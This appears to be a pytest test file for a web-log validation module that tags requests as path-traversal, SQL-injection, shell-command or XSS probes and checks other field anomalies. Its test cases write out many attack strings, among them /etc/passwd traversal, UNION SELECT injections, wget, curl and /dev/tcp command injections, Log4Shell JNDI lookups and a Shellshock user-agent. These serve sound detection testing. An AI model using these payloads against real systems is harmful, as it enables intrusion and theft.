import gzip
import json
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.core import SAMPLE, combined, dead, enriched, enricher, grows_linearly
from udfs.check.anomalies import _matching, _probes
from udfs.errors import ConfigurationError
from udfs.outcomes import Enriched
from udfs.quality import PROBES

PLAIN = enricher()


def issues_of(**fields: str) -> tuple[str, ...]:
    return enriched(PLAIN, combined(**fields)).issues


def probes_of(target: str) -> tuple[str, ...]:
    return issues_of(request=f"GET {target} HTTP/1.1")


TRAVERSAL, SQL, SHELL, XSS = PROBES


@pytest.mark.parametrize(
    ("target", "code"),
    [
        ("/../../etc/passwd", TRAVERSAL),
        ("/a/..%2f..%2Fsecret", TRAVERSAL),
        ("/a/%2e%2e/%2e%2e/b", TRAVERSAL),
        ("/a/%252e%252e%252fb", TRAVERSAL),
        (r"/a/..\\..\\b", TRAVERSAL),
        ("/scripts/..%c0%af../winnt", TRAVERSAL),
        ("/a?file=../../x", TRAVERSAL),
        ("/a?file=/etc/shadow", TRAVERSAL),
        ("/a?file=%2Fetc%2Fpasswd%00", TRAVERSAL),
        ("/a?f=c:/windows/system32/drivers", TRAVERSAL),
        ("/a?id=1+UNION+SELECT+1,2,3", SQL),
        ("/a?id=1%20union%20all%20select%20x", SQL),
        ("/a?id=1/**/union/**/select/**/x", SQL),
        ("/a?id=1'%20or%20'1'='1", SQL),
        ("/a?id=1%2527%2520OR%25201%253D1", SQL),
        ("/a?id=1;drop+table+users", SQL),
        ("/a?id=1+and+sleep(5)", SQL),
        ("/a?id=x'--", SQL),
        ("/a?q=information_schema.tables", SQL),
        ("/a?x=;cat+/tmp/x", SHELL),
        ("/a?x=%7Cid", SHELL),
        ("/a?x=`whoami`", SHELL),
        ("/a?x=$(id)", SHELL),
        ("/a?x=1%26%26wget%20http://h/x", SHELL),
        ("/cgi-bin/x?cmd=/bin/sh", SHELL),
        ("/a?x=${jndi:ldap://h/a}", SHELL),
        ("/a?x=%24%7B%24%7Blower:j%7Dndi:ldap://h%7D", SHELL),
        ("/scripts/root.exe?/c+cmd.exe", SHELL),
        ("/a?q=<script>alert(1)</script>", XSS),
        ("/a?q=%3Cscript%20src=x%3E", XSS),
        ("/a?q=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E", XSS),
        ("/a?q=<svg/onload=alert(1)>", XSS),
        ("/a?u=javascript:alert(1)", XSS),
        (r"/a?q=\x3cscript\x3e", XSS),
        # Of only ordinary characters.
        ("/a?f=c:/boot.ini", TRAVERSAL),
        ("/a?id=1+into+outfile+x", SQL),
        ("/a?q=xp_cmdshell", SQL),
        ("/a?x=1&&id", SHELL),
        ("/a?x=/dev/tcp/192.0.2.1/80", SHELL),
        ("/a?x=curl+http://h/x", SHELL),
    ],
)
def test_probes_are_flagged_and_never_dropped(target: str, code: str) -> None:
    found = probes_of(target)
    assert code in found
    record = json.loads(enriched(PLAIN, combined(request=f"GET {target} HTTP/1.1")).json)
    assert record["quality"]["status"] == "suspect"
    assert code in record["quality"]["issues"]


@pytest.mark.parametrize(
    "target",
    [
        "/",
        "/a/b.html?id=5&and=6&or=7",
        "/shop/order/union-square?select=all",
        "/select+from+our+menu",
        "/docs/sql/select-from-where.html",
        "/search?q=rock+and+roll",
        "/search?q=cats+or+dogs",
        "/search?q=O'Brien+and+sons",
        "/docs/etc/passwords.html",
        "/releases/1..2/notes",
        "/a/file..html",
        "/tools/cat?id=5;ls=3&sh=1",
        "/a?x=1&&y=2",
        "/recaptcha/api.js?onload=ready&render=explicit",
        "/docs/javascript/scripting.html",
        "/blog/debug-your-javascript:part-2",
        "/windows-7/powershell-tips",
        "/how-to-use-curl-and-wget",
        "/a?range=1<2",
        "/price?eq=a=b",
        "/%E2%9C%93?utf8=%E2%9C%93",
        "/ids/id;id=7/echo",
    ],
)
def test_ordinary_requests_are_no_probes(target: str) -> None:
    assert probes_of(target) == ()


def test_the_sample_has_no_false_alarms() -> None:
    with gzip.open(SAMPLE) as file:
        outcomes = PLAIN.process(file.read())
    flagged = [one.json for one in outcomes if isinstance(one, Enriched) and one.issues]
    assert flagged == []


@pytest.mark.parametrize("field", ["agent", "referer"])
@pytest.mark.parametrize("text", ["() { :; }; /bin/bash -c id", "${jndi:ldap://h/a}"])
def test_commands_in_other_fields(field: str, text: str) -> None:
    assert issues_of(**{field: text}) == ("probe_shell",)


@pytest.mark.parametrize("agent", ["Mozilla/5.0 (Linux; U; Android 4.0; id; rm -x)", "x {y}"])
def test_languages_of_user_agents_are_no_commands(agent: str) -> None:
    assert issues_of(agent=agent) == ()


# The quick look may skip only texts that no pattern matches.
@given(
    st.lists(
        st.sampled_from(
            ["union", "select", "+", " ", "/**/", "or", "and", "1", "=", "'", "..", "/", "\\",
             "etc", "passwd", "&&", "&", ";", "id", "cat", "wget", "http://", "bin", "sh",
             "<", "script", ":", "java", "(", ")", "{", "$", "sleep", "a", ".", "ini", "win",
             "-", "cmd.exe", "xor", "waitfor", "delay", "into", "outfile", "curl", "powershell",
             "all", "distinct", "2"]
        ),
        max_size=8,
    ).map("".join)
    | st.text(string.printable, max_size=12)
)  # fmt: skip
def test_the_quick_look_skips_nothing(text: str) -> None:
    data = text.lower().encode()
    assert _probes(data) == tuple(_matching(data))


@pytest.mark.parametrize(
    "unit",
    ["a", "'", " ", "+", "/**/", "/*", "1 ", "' or ", "union ", "<a ", "<a", "..", ";", "; ",
     "${", "() ", "wget ", "sleep(", "%25", "<a on", "on"],
)  # fmt: skip
def test_time_grows_with_length(unit: str) -> None:
    assert grows_linearly(
        lambda text: tuple(_matching(text.encode())), lambda n: unit * (n // len(unit)), 16_384
    )


@pytest.mark.parametrize(
    ("fields", "codes"),
    [
        ({"timestamp": "31/Dec/1994:23:59:59 +0000"}, ("timestamp_ancient",)),
        ({"timestamp": "01/Jan/1995:00:00:00 +0000"}, ()),
        ({"size": "1099511627776"}, ()),
        ({"size": "1099511627777"}, ("size_impossible",)),
        ({"status": "304", "size": "0"}, ()),
        # The bytes in the log of Debian's Apache include headers.
        ({"status": "304", "size": "2048"}, ()),
        ({"status": "304", "size": "2049"}, ("unexpected_body",)),
        ({"status": "204", "size": "2049"}, ("unexpected_body",)),
        ({"status": "101", "size": "2049"}, ("unexpected_body",)),
        ({"request": "HEAD / HTTP/1.1", "size": "2048"}, ()),
        ({"request": "HEAD / HTTP/1.1", "size": "2049"}, ("unexpected_body",)),
        ({"status": "206", "size": "1"}, ()),
        ({"agent": "x" * 4096}, ()),
        ({"agent": "x" * 4097}, ("field_too_long",)),
        ({"referer": "x" * 4097, "agent": "x" * 4097}, ("field_too_long",)),
        ({"request": f"GET /{'x' * 4097} HTTP/1.1"}, ("field_too_long",)),
        ({"request": "GET /a%0d%0aSet-Cookie:x HTTP/1.1"}, ("control_characters",)),
        ({"request": "GET /a%2500 HTTP/1.1"}, ("control_characters",)),
        ({"request": r"\x16\x03\x01"}, ("control_characters",)),
        ({"request": r"GET /a\nb HTTP/1.1"}, ("control_characters",)),
        ({"agent": "a\x1b[31mb"}, ("control_characters",)),
        ({"agent": r"a\x1b[31mb"}, ("control_characters",)),
        ({"referer": r"a\rb"}, ("control_characters",)),
        ({"agent": r"a\tb"}, ()),
        ({"agent": "é\u00a0ü"}, ()),
        ({"host": "300.1.1.1"}, ("odd_client",)),
        ({"host": "10.0.0.1", "size": "9" * 18}, ("private_address", "size_impossible")),
    ],
)
def test_anomalies(fields: dict[str, str], codes: tuple[str, ...]) -> None:
    assert issues_of(**fields) == codes


@pytest.mark.parametrize(
    ("fields", "status"),
    [
        ({"host": "10.0.0.1"}, "ok"),
        ({"request": "GET /../x HTTP/1.1"}, "suspect"),
        ({"request": "GET /../x HTTP/1.1", "size": "9" * 18}, "invalid"),
    ],
)
def test_the_status(fields: dict[str, str], status: str) -> None:
    record = json.loads(enriched(PLAIN, combined(**fields)).json)
    assert record["quality"]["status"] == status


def test_limits_are_settings() -> None:
    strict = enricher(
        {
            "weblog.validation": {
                "earliest.time": "2025-01-01",
                "max.bytes": "1000",
                "max.field.length": "64",
            }
        }
    )
    outcome = enriched(strict, combined(timestamp="31/Dec/2024:23:00:00 -0000"))
    assert outcome.issues == ("field_too_long", "timestamp_ancient", "size_impossible")


def test_issues_can_be_ignored() -> None:
    deaf = enricher({"weblog.validation": {"ignore": "probe_xss, size_impossible"}})
    line = combined(request="GET /../<script> HTTP/1.1", size="9" * 18)
    assert enriched(deaf, line).issues == ("probe_path_traversal",)


def test_issues_can_make_a_dead_letter() -> None:
    stern = enricher({"weblog.validation": {"reject": "size_impossible, timestamp_ancient"}})
    letter = dead(stern, combined(size="9" * 18)).letter
    assert (letter.stage, letter.reason) == ("validate", "size_impossible")
    assert letter.event_time_ms == 1_761_646_530_000
    enriched(stern, combined(request="GET /../x HTTP/1.1"))


@pytest.mark.parametrize("code", [*PROBES, "private_address", "nonsense"])
def test_probes_and_the_unknown_cannot_be_rejected(code: str) -> None:
    with pytest.raises(ConfigurationError, match="comma-separated list out of"):
        enricher({"weblog.validation": {"reject": code}})
